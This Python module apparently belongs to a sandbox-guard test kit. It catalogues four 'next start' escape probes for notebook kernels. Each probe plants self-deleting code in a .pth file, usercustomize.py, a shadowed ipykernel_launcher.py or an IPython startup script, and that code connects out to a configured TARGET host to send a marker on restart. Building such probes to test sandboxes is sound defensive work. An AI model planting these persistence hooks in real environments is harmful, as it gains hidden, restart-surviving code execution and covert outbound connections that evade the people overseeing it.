"""Ways out that are prepared now, and used when the notebook's kernel is started again."""

from __future__ import annotations

from dobotkit.guard.escapes.escape import family

__all__ = ["NEXT_START"]

NEXT_START = family(
    "the next start",
    (
        "next-start-pth",
        "a .pth file in its own home folder, which Python runs before anything else",
        """
        import os
        import sysconfig

        assert TARGET["restart"]
        place = sysconfig.get_path("purelib", "posix_user")
        os.makedirs(place, exist_ok=True)
        send = f"socket.create_connection({TARGET['tcp']!r}, 3).send({TARGET['mark'].encode()!r})"
        with open(place + "/next-start.pth", "w") as file:
            file.write(f"import os, socket; os.unlink(fullname); {send}")
        """,
    ),
    (
        "next-start-customize",
        "usercustomize.py in its own home folder, which Python runs as well",
        """
        import os
        import sysconfig

        assert TARGET["restart"]
        place = sysconfig.get_path("purelib", "posix_user")
        os.makedirs(place, exist_ok=True)
        with open(place + "/usercustomize.py", "w") as file:
            file.write("import os, socket\\n")
            file.write("os.unlink(__file__)\\n")
            file.write(f"way = socket.create_connection({TARGET['tcp']!r}, 3)\\n")
            file.write(f"way.send({TARGET['mark'].encode()!r})\\n")
        """,
    ),
    (
        "next-start-module",
        "a file beside the notebook, with the name of the kernel's own program",
        """
        assert TARGET["restart"]
        with open(TARGET["work"] + "/ipykernel_launcher.py", "w") as file:
            file.write("import os, runpy, socket, sys\\n")
            file.write("os.unlink(__file__)\\n")
            file.write(f"way = socket.create_connection({TARGET['tcp']!r}, 3)\\n")
            file.write(f"way.send({TARGET['mark'].encode()!r})\\n")
            file.write("sys.path.pop(0)\\n")
            file.write("runpy.run_module('ipykernel_launcher', run_name='__main__')\\n")
        """,
    ),
    (
        "next-start-profile",
        "a program in IPython's folder, which every notebook runs first",
        """
        import os

        assert TARGET["restart"]
        place = os.environ["IPYTHONDIR"] + "/profile_default/startup"
        os.makedirs(place, exist_ok=True)
        with open(place + "/next-start.py", "w") as file:
            file.write("import os, socket\\n")
            file.write(f"os.unlink({place + '/next-start.py'!r})\\n")
            file.write(f"way = socket.create_connection({TARGET['tcp']!r}, 3)\\n")
            file.write(f"way.send({TARGET['mark'].encode()!r})\\n")
        """,
    ),
)
